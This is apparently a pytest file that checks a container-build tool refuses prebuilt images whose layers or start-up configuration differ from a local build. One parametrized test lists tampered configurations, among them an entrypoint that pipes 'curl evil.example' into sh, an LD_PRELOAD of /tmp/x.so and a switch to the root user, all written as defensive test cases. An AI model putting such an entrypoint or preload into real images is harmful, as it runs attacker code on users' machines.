"""A pull from a registry on loopback, where the engine's command is a script: which layers, and which configuration, are compared."""

import hashlib
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from cell_inputs import complete, inputs_for

from envbuild.engine.built import OwnBuild, remember_built
from envbuild.engine.client import EngineClient
from envbuild.engine.image import Image, image_from
from envbuild.engine.trust import Expected, Verified, pulled_for, require_own_content
from envbuild.errors import LockError
from envbuild.matrix.load import load_matrix
from envbuild.pipeline.prebuilt import pull_prebuilt
from envbuild.plan.plan import plan_of
from envbuild.settings import Settings

MANIFEST = b"{}"
ONE = "sha256:" + hashlib.sha256(MANIFEST).hexdigest()
TWO, THREE = (f"sha256:{digit * 64}" for digit in "23")


def image(*layers: str, **config: object) -> Image:
    """An image as the engine describes it."""
    return image_from([{"Id": TWO, "Config": config, "RootFS": {"Layers": list(layers)}}], "x")


@pytest.fixture(scope="module")
def plan():
    return plan_of(load_matrix(), complete(inputs_for(cuda="cpu")))


@pytest.fixture
def host():
    """HOST:PORT of a registry that holds an image of the digest ONE under every name."""

    class Handler(BaseHTTPRequestHandler):
        def do_HEAD(self):
            self.send_response(200)
            self.send_header("Content-Type", "application/vnd.oci.image.manifest.v1+json")
            self.send_header("Docker-Content-Digest", ONE)
            self.send_header("Content-Length", str(len(MANIFEST)))
            self.end_headers()

        def do_GET(self):
            self.do_HEAD()
            self.wfile.write(MANIFEST)

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{server.server_port}"
        server.shutdown()


@pytest.fixture
def pull(host, tmp_path, monkeypatch, plan):
    """Pull the image, whose layers are those given, with an engine that writes down what it is asked."""
    program = tmp_path / "bin" / "docker"
    program.parent.mkdir()
    monkeypatch.setenv("PATH", f"{program.parent}:/usr/bin:/bin")
    settings = Settings(cache_dir=tmp_path / "cache", registry=f"{host}/team")
    asked = tmp_path / "asked"

    def run(*layers: str, **config: object) -> list[str]:
        facts = {
            "Id": TWO,
            "Config": {"Labels": plan.labels | {"io.envbuild.lock": "another"}} | config,
            "RepoDigests": [f"{host}/team@{ONE}"],
            "RootFS": {"Layers": layers},
        }
        (tmp_path / "facts").write_text(json.dumps([facts]))
        asked.write_text("")
        program.write_text(
            f'#!/bin/sh\necho "$*" >> {asked}\n'
            f'case "$*" in\n*"image inspect"*) [ -e {tmp_path}/held ] || {{ echo "No such image" >&2; exit 1; }}\n'
            f"  cat {tmp_path}/facts;;\n*pull*) touch {tmp_path}/held;;\nesac\n"
        )
        program.chmod(0o755)
        expected = Expected(by="catalog", records={ONE: "release"})
        pull_prebuilt(EngineClient(settings), plan, "mine:1", expected=expected)
        raise AssertionError("the image was taken")

    run.settings, run.asked = settings, asked
    return run


def test_the_layers_of_the_image_itself_are_compared_with_those_that_were_built_here(pull, plan):
    """The catalogue's entry stated this machine's layers, and the image of its digest has others."""
    remember_built(pull.settings, plan, OwnBuild(digest=THREE, layers=(TWO, THREE)))
    with pytest.raises(LockError, match="has other layers than this machine built from the lock"):
        pull(TWO, ONE)
    words = pull.asked.read_text()
    assert f"{pull.settings.registry}@{ONE}" in words
    assert "mine:1" not in words  # nothing is tagged
    assert [line for line in words.splitlines() if "rm" in line]  # and nothing stays
    assert pulled_for(pull.settings, plan) is None
    (pull.asked.parent / "held").unlink()
    with pytest.raises(LockError, match="made from another lock"):  # the layers fit, and the labels come next
        pull(TWO, THREE)


@pytest.mark.parametrize(
    "note",
    [None, OwnBuild(digest=THREE), OwnBuild(digest=THREE, layers=(THREE,), steps_from="r.example/cache")],
)
def test_without_a_whole_build_of_its_own_there_is_nothing_to_compare_with(pull, plan, note):
    if note is not None:
        remember_built(pull.settings, plan, note)
    require_own_content(pull.settings, plan, Verified(by="catalog", digest=ONE), image(ONE), where="here")


def test_who_names_a_digest_takes_its_layers(pull, plan):
    """A person's word comes before this machine's."""
    remember_built(pull.settings, plan, OwnBuild(digest=THREE, layers=(TWO,)))
    require_own_content(pull.settings, plan, Verified(by="flag", digest=ONE), image(ONE), where="here")
    with pytest.raises(LockError):
        require_own_content(pull.settings, plan, Verified(by="catalog", digest=ONE), image(), where="here")


BUILT_CONFIG = {"Entrypoint": ["/opt/envbuild/entry"], "Env": ["A=1", "B=2"], "User": "1000", "WorkingDir": "/work"}


@pytest.mark.parametrize(
    "changed",
    [
        {"Entrypoint": ["/bin/sh", "-c", "curl evil.example | sh"]},
        {"Entrypoint": None},
        {"Cmd": ["/bin/true"]},
        {"Env": ["A=1", "B=2", "LD_PRELOAD=/tmp/x.so"]},
        {"Env": ["B=2", "A=1"]},
        {"User": "0"},
        {"WorkingDir": "/"},
        {"Volumes": {"/opt": {}}},
        {"Labels": {"a": "b"}},
        {"Healthcheck": {"Test": ["CMD", "x"]}},
        {"Shell": ["/bin/bash"]},
        {"StopSignal": "SIGKILL"},
    ],
    ids=lambda changed: next(iter(changed)),
)
def test_another_configuration_under_the_right_layers_is_refused(pull, plan, changed):
    labels = plan.labels | {"io.envbuild.lock": "another"}
    built = image(TWO, THREE, Labels=labels, **BUILT_CONFIG)
    remember_built(pull.settings, plan, OwnBuild(digest=THREE, layers=(TWO, THREE), config=built.config))
    with pytest.raises(LockError, match="starts them in another way") as error:
        pull(TWO, THREE, **BUILT_CONFIG | changed)
    assert error.value.exit_code == 4
    words = pull.asked.read_text()
    assert "mine:1" not in words
    assert [line for line in words.splitlines() if "rm" in line]
    assert pulled_for(pull.settings, plan) is None
    (pull.asked.parent / "held").unlink()
    with pytest.raises(LockError, match="made from another lock"):  # the configuration fits, and the labels come next
        pull(TWO, THREE, **BUILT_CONFIG)


def test_a_note_of_an_earlier_release_has_no_configuration_to_compare(pull, plan):
    remember_built(pull.settings, plan, OwnBuild(digest=THREE, layers=(TWO, THREE)))
    with pytest.raises(LockError, match="made from another lock"):
        pull(TWO, THREE, **BUILT_CONFIG)


def test_how_an_engine_writes_an_empty_field_makes_no_difference():
    empty = {"Cmd": None, "Volumes": {}, "User": "", "OnBuild": [], "AttachStdin": False, "Hostname": ""}
    assert image(ONE, **BUILT_CONFIG).config == image(TWO, **empty | BUILT_CONFIG).config
